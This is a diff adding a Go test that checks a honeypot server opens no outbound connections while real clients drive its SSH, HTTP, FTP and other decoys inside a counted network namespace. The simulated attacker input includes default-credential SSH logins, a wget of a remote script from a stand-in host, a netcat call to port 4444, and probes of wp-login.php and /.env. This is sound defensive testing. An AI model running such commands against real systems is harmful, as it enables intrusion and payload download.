@@ -304,3 +304,196 @@ func TestServeHoneypotsLogEvents(t *testing.T) {
 		t.Errorf("event entries: %d from ssh, %d from http; want some of each", fromSSH, fromHTTP)
 	}
 }
+
+// egressRules count, inside the test's namespace, every packet that
+// leaves by an interface other than loopback (and drop it) — except the
+// IPv6 neighbour discovery and multicast listener reports the kernel
+// itself sends when an interface comes up, counted apart —, every UDP
+// packet (no honeypot here speaks UDP, so a DNS lookup would show), and
+// every TCP connection attempt to a port that is not one of ours. The
+// namespace has a veth pair with default routes through it, so a
+// connection attempt to anywhere is routed, reaches the output hook and
+// is counted, instead of failing before it with "network unreachable".
+const egressRules = `
+table inet vallum_egress {
+	counter egress {}
+	counter kernel_nd {}
+	counter udp_any {}
+	counter syn_ours {}
+	counter syn_other {}
+	set ours { type inet_service; elements = { %s } }
+	chain out {
+		type filter hook output priority 0; policy accept;
+		oifname != "lo" icmpv6 type { nd-router-solicit, nd-neighbor-solicit, nd-neighbor-advert, mld-listener-report, mld2-listener-report } counter name "kernel_nd" drop
+		oifname != "lo" counter name "egress" log prefix "vallum-egress: " drop
+		meta l4proto udp counter name "udp_any"
+		tcp flags & (syn | ack) == syn tcp dport @ours counter name "syn_ours"
+		tcp flags & (syn | ack) == syn tcp dport != @ours counter name "syn_other"
+	}
+}
+`
+
+// nsCounters reads the namespace's counters.
+func nsCounters(t *testing.T, ns string) map[string]int64 {
+	t.Helper()
+	out, err := exec.Command("ip", "netns", "exec", ns, "nft", "-j", "list", "counters", "table", "inet", "vallum_egress").Output()
+	if err != nil {
+		t.Fatalf("nft list counters: %v", err)
+	}
+	var doc struct {
+		Nftables []struct {
+			Counter *struct {
+				Name    string `json:"name"`
+				Packets int64  `json:"packets"`
+			} `json:"counter"`
+		} `json:"nftables"`
+	}
+	if err := json.Unmarshal(out, &doc); err != nil {
+		t.Fatalf("nft -j: %v\n%s", err, out)
+	}
+	c := map[string]int64{}
+	for _, o := range doc.Nftables {
+		if o.Counter != nil {
+			c[o.Counter.Name] = o.Counter.Packets
+		}
+	}
+	return c
+}
+
+// The honeypots (and the whole server around them) open no outbound
+// connection while real clients drive every one of them: run inside a
+// network namespace whose only way out is counted.
+func TestHoneypotsHaveNoEgress(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: creates a network namespace and nftables rules in it")
+	}
+	for _, prog := range []string{"ip", "nft", "curl", "ssh", "sshpass", "nmap"} {
+		if _, err := exec.LookPath(prog); err != nil {
+			t.Skipf("needs %s: %v", prog, err)
+		}
+	}
+	ns := fmt.Sprintf("vallum-noegress-%d", os.Getpid())
+	in := func(args ...string) *exec.Cmd { return exec.Command("ip", append([]string{"netns", "exec", ns}, args...)...) }
+	must := func(c *exec.Cmd) {
+		t.Helper()
+		if out, err := c.CombinedOutput(); err != nil {
+			t.Fatalf("%v: %v\n%s", c.Args, err, out)
+		}
+	}
+	must(exec.Command("ip", "netns", "add", ns))
+	t.Cleanup(func() { exec.Command("ip", "netns", "del", ns).Run() })
+	must(in("ip", "link", "set", "lo", "up"))
+	// A veth pair, both ends inside: the routes lead out through it, so
+	// an attempt to connect anywhere reaches the output hook.
+	if out, err := in("ip", "link", "add", "veg0", "type", "veth", "peer", "name", "veg1").CombinedOutput(); err != nil {
+		t.Skipf("needs veth devices (to route and count attempts): %v %s", err, out)
+	}
+	must(in("ip", "addr", "add", "10.254.0.1/24", "dev", "veg0"))
+	must(in("ip", "link", "set", "veg0", "up"))
+	must(in("ip", "link", "set", "veg1", "up"))
+	must(in("ip", "route", "add", "default", "dev", "veg0"))
+	must(in("ip", "-6", "route", "add", "default", "dev", "veg0"))
+
+	ports := map[string]string{"api": "18080", "ssh": "12222", "http": "18081", "https": "18443", "ftp": "12121", "telnet": "12323",
+		"redis": "16379", "mysql": "13306", "smb": "10445", "rdp": "13389"}
+	var list []string
+	for _, p := range ports {
+		list = append(list, p)
+	}
+	rules := exec.Command("ip", "netns", "exec", ns, "nft", "-f", "-")
+	rules.Stdin = strings.NewReader(fmt.Sprintf(egressRules, strings.Join(list, ", ")))
+	must(rules)
+
+	dir := t.TempDir()
+	cfg := filepath.Join(dir, "vallum.yaml")
+	l := func(name string) string { return "127.0.0.1:" + ports[name] }
+	os.WriteFile(cfg, fmt.Appendf(nil, `sensors:
+  name: ns
+  ssh: {enabled: true, listen: %q, accept: {policy: any}}
+  http: {enabled: true, listen: [%q], tls_listen: [%q]}
+  tcp:
+    ftp: {enabled: true, listen: [%q]}
+    telnet: {enabled: true, listen: [%q]}
+    redis: {enabled: true, listen: [%q]}
+    mysql: {enabled: true, listen: [%q]}
+    smb: {enabled: true, listen: [%q]}
+    rdp: {enabled: true, listen: [%q]}
+`, l("ssh"), l("http"), l("https"), l("ftp"), l("telnet"), l("redis"), l("mysql"), l("smb"), l("rdp")), 0o600)
+	out := &watchBuffer{addr: make(chan string, 1)}
+	errb := &watchBuffer{}
+	srv := in(vallumBin, "serve", "--config", cfg, "--data", filepath.Join(dir, "data"), "--listen", l("api"))
+	srv.Stdout, srv.Stderr = out, errb
+	if err := srv.Start(); err != nil {
+		t.Fatal(err)
+	}
+	done := make(chan struct{})
+	go func() { srv.Wait(); close(done) }()
+	t.Cleanup(func() {
+		srv.Process.Signal(syscall.SIGKILL)
+		<-done
+		if t.Failed() {
+			t.Logf("server stderr:\n%s", errb)
+		}
+	})
+	select {
+	case <-out.addr:
+	case <-done:
+		t.Fatalf("server exited: %s", errb)
+	case <-time.After(20 * time.Second):
+		t.Fatalf("server did not start: %s", errb)
+	}
+	for _, name := range []string{"ssh", "http", "https", "ftp", "telnet", "redis", "mysql", "smb", "rdp"} {
+		deadline := time.Now().Add(15 * time.Second)
+		for in("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/"+ports[name]).Run() != nil {
+			if time.Now().After(deadline) {
+				t.Fatalf("the %s honeypot does not accept connections", name)
+			}
+			time.Sleep(50 * time.Millisecond)
+		}
+	}
+
+	// Drive every honeypot with real clients, from inside the namespace.
+	run := func(args ...string) string {
+		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+		defer cancel()
+		c := exec.CommandContext(ctx, "ip", append([]string{"netns", "exec", ns}, args...)...)
+		b, _ := c.CombinedOutput() // refusals are expected; what counts is the traffic
+		return string(b)
+	}
+	run("curl", "-s", "-o", "/dev/null", "http://"+l("http")+"/")
+	run("curl", "-s", "-o", "/dev/null", "-d", "log=admin&pwd=x", "http://"+l("http")+"/wp-login.php")
+	run("curl", "-sk", "-o", "/dev/null", "https://"+l("https")+"/.env")
+	shell := run("sshpass", "-p", "toor", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-p", ports["ssh"], "root@127.0.0.1",
+		"uname -a; id; wget http://198.51.100.7/x.sh; curl -s http://203.0.113.9/y; curl -s http://example.com/; ping -c1 192.0.2.1; nc 198.51.100.8 4444; cat /proc/cpuinfo")
+	if !strings.Contains(shell, "Linux") {
+		t.Errorf("the SSH honeypot's shell did not answer uname: %q", shell)
+	}
+	run("curl", "-s", "--max-time", "5", "ftp://anonymous:x@"+l("ftp")+"/")
+	run("nmap", "-n", "-Pn", "-sV", "--version-light", "-p", strings.Join([]string{ports["ftp"], ports["telnet"], ports["redis"], ports["mysql"], ports["smb"], ports["rdp"]}, ","), "127.0.0.1")
+
+	c := nsCounters(t, ns)
+	t.Logf("counters after driving every honeypot: %v", c)
+	if c["egress"] != 0 || c["udp_any"] != 0 || c["syn_other"] != 0 {
+		t.Errorf("outbound attempts seen: %d packets out of the namespace, %d UDP packets, %d TCP connection attempts to other ports (counters %v)",
+			c["egress"], c["udp_any"], c["syn_other"], c)
+	}
+	if c["syn_ours"] < 10 {
+		t.Errorf("only %d connections to the honeypots were counted: the rules do not see the traffic", c["syn_ours"])
+	}
+	// The honeypots did see the clients.
+	tok, _ := os.ReadFile(filepath.Join(dir, "data", "admin.token"))
+	stats := run("curl", "-s", "-H", "Authorization: Bearer "+strings.TrimSpace(string(tok)), "http://"+l("api")+"/api/v1/events/stats")
+	var st struct {
+		Events struct {
+			Total int `json:"total"`
+		} `json:"events"`
+	}
+	if json.Unmarshal([]byte(stats), &st); st.Events.Total < 10 {
+		t.Errorf("the server logged %d events from the clients, want many: %s", st.Events.Total, stats)
+	}
+	// Control: an outbound attempt from inside the namespace is counted.
+	run("curl", "-s", "--max-time", "1", "http://198.51.100.1/")
+	if c := nsCounters(t, ns); c["egress"] == 0 {
+		t.Errorf("a deliberate outbound connection was not counted: the test cannot see egress (counters %v)", c)
+	}
+}
